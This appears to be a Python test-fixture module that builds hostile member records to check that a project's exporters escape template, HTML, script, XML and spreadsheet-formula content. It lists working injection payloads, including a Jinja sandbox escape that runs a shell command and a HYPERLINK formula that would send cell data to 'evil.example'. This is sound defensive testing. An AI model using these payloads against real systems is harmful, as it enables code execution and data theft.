"""Hostile text for export tests: template, HTML, script, XML and spreadsheet-formula payloads.

None has leading or trailing white space (importers strip cells), so every exporter's output
must read back to exactly these strings.
"""

from __future__ import annotations

from pathlib import Path

from cluster_desk.core.model import Industry, Member, MemberKind, Status

PAYLOADS: tuple[str, ...] = (
    "{{ 7*7 }}",
    "{{7*7}}",
    "{% for x in range(3) %}y{% endfor %}",
    "{# comment #}",
    "<img src=x onerror=\"document.documentElement.dataset.pwned='img'\">",
    "</script><script>document.documentElement.dataset.pwned='script'</script>",
    "<!-- <script>document.documentElement.dataset.pwned='comment'</script>",
    "${document.documentElement.dataset.pwned='literal'}",
    "`+(document.documentElement.dataset.pwned='backtick')+`",
    "line\u2028separator\u2029paragraph",
    "]]><![CDATA[ & &amp; \" ' <x/>",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+7 843 000",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
)
#: Formula-like payloads: spreadsheets must show these as text.
FORMULAS: tuple[str, ...] = tuple(p for p in PAYLOADS if p[0] in "=+-@")


def shell_payload(marker: Path) -> str:
    """Jinja's sandbox-escape payload: creates ``marker`` if any template engine runs it."""
    return "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}"


def hostile_members(*extra: str) -> list[Member]:
    """One located member per payload, every text field hostile (rotated so fields differ)."""
    texts = [*PAYLOADS, *extra]
    members = []
    for i, name in enumerate(texts):
        def other(k: int, i: int = i) -> str:
            return texts[(i + k) % len(texts)]

        members.append(Member(
            name=name, kind=list(MemberKind)[i % len(MemberKind)], status=list(Status)[i % 3],
            sector=other(1), industry=(Industry.CORE, Industry.RELATED)[i % 2], employees=i * 7,
            lat=55.0 + i / 50, lon=49.0 + i / 40, address=other(2), inn=f"{1655000000 + i}",
            website=other(3), contact=other(4), joined="2020-02-29", notes=other(5),
        ))
    return members
